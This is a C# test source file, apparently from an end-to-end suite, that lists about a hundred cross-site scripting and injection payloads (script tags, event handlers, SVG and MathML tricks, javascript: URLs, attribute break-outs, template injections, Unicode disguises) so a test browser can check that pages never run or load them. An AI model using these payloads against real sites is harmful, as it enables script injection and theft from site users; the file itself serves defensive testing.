namespace Daas.EndToEnd.Studio;

/// <summary>
/// A hundred texts by which an old system, or a file, would have our pages run something, load something or break. What runs calls <c>alert</c> or sets
/// <c>window.ran</c>; what loads asks a host of its own; <see cref="OperatorBrowser"/> sees either.
/// </summary>
internal static class Payloads
{
    private const string Long = "很长的标题没有空格";

    public static IReadOnlyList<string> All { get; } =
    [
        // Script elements, whole and in pieces.
        "<script>alert(1)</script>",
        "<ScRiPt>window.ran=1</sCrIpT>",
        "<script src=//elsewhere.invalid/x.js></script>",
        "<script type=module>window.ran=1</script>",
        "<script>window.ran=1",
        "</script><script>alert(1)</script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<script\n>alert(1)</script\n>",
        "<script/x>window.ran=1</script>",
        "<script nonce='' >window.ran=1</script>",
        "<script>import('//elsewhere.invalid/m.js')</script>",
        "<template><script>alert(1)</script></template>",

        // Elements with handlers.
        "<img src=x onerror=alert(1)>",
        "<img src=x onerror=\"window.ran=1\">",
        "<img/src/onerror=alert(1)>",
        "<IMG SRC=x OnErRoR=alert(1)>",
        "<img src=//elsewhere.invalid/p.png>",
        "<body onload=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)><option>1</option></select>",
        "<textarea autofocus onfocus=alert(1)></textarea>",
        "<video src=x onerror=alert(1)></video>",
        "<video><source onerror=window.ran=1></video>",
        "<audio src=x onerror=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        "<marquee onstart=alert(1)>x</marquee>",
        "<div onmouseover=alert(1) style=position:fixed;inset:0>x</div>",
        "<div onpointerenter=window.ran=1>x</div>",
        "<a onclick=alert(1) href=#>x</a>",
        "<button autofocus onfocus=alert(1)>x</button>",
        "<p style=animation-name:x onanimationstart=alert(1)>x</p>",
        "<dialog open onclose=alert(1)>x</dialog>",
        "<x contenteditable onblur=alert(1)>x</x>",
        "<custom-tag onclick=alert(1) tabindex=0 autofocus onfocus=alert(1)>x</custom-tag>",

        // SVG and MathML.
        "<svg onload=alert(1)>",
        "<svg><set attributeName=onmouseover to=alert(1)>",
        "<svg/onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>x</text></a></svg>",
        "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>#x\"/></svg>",
        "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
        "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
        "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
        "<svg><style><img src=x onerror=alert(1)></style></svg>",

        // Frames, objects, the page's own head.
        "<iframe src=javascript:alert(1)></iframe>",
        "<iframe srcdoc=\"<script>parent.ran=1</script>\"></iframe>",
        "<object data=javascript:alert(1)></object>",
        "<embed src=javascript:alert(1)>",
        "<base href=//elsewhere.invalid/>",
        "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=//elsewhere.invalid/x.css>",
        "<style>@import '//elsewhere.invalid/x.css';</style>",
        "<style>*{background:url(//elsewhere.invalid/b)}</style>",
        "<form action=//elsewhere.invalid/><button autofocus>x</button></form>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",

        // Addresses.
        "javascript:alert(1)",
        "JaVaScRiPt:alert(1)",
        "java\tscript:alert(1)",
        " javascript:alert(1)",
        "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "vbscript:msgbox(1)",
        "<a href=javascript:alert(1)>x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "//elsewhere.invalid/path",

        // Out of an attribute, a text field, a comment, a list of data.
        "\"><script>alert(1)</script>",
        "'><img src=x onerror=alert(1)>",
        "\" onmouseover=\"alert(1)",
        "' onfocus='alert(1)' autofocus='",
        "\" autofocus onfocus=alert(1) x=\"",
        "`onmouseover=alert(1) x=`",
        "</textarea><script>alert(1)</script>",
        "</title><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</pre></code></li></ul></section><img src=x onerror=alert(1)>",
        "--><script>alert(1)</script><!--",
        "<!--><img src=x onerror=alert(1)>-->",
        "<![CDATA[<script>alert(1)</script>]]>",
        "]]><script>alert(1)</script>",
        "\\\"}];alert(1);//",
        "'};window.ran=1;//",
        "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "&#60;img src=x onerror=alert(1)&#62;",
        "%3Cscript%3Ealert(1)%3C/script%3E",

        // Templates and styles.
        "{{constructor.constructor('alert(1)')()}}",
        "${alert`1`}",
        "@(System.IO.File.Delete(\"x\")) @{ alert(1) }",
        "<%= alert(1) %> #{alert(1)} {{{alert(1)}}}",
        "expression(alert(1))",
        "x;background:url(javascript:alert(1))",

        // Looks and length.
        "\u202Etpircs<\u202C \u2066<script>alert(1)</script>\u2069",
        "\u200B<\u200Bscript\u200B>\u200Balert(1)\u200B</script>",
        "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
        "<img src=x onerror=\u2028alert(1)>",
        "e" + new string('\u0301', 400),
        "<b>" + string.Concat(Enumerable.Repeat(Long, 400)),
        new string('A', 20_000),
        string.Concat(Enumerable.Repeat("<div>", 3000)) + "<img src=x onerror=alert(1)>",
    ];
}
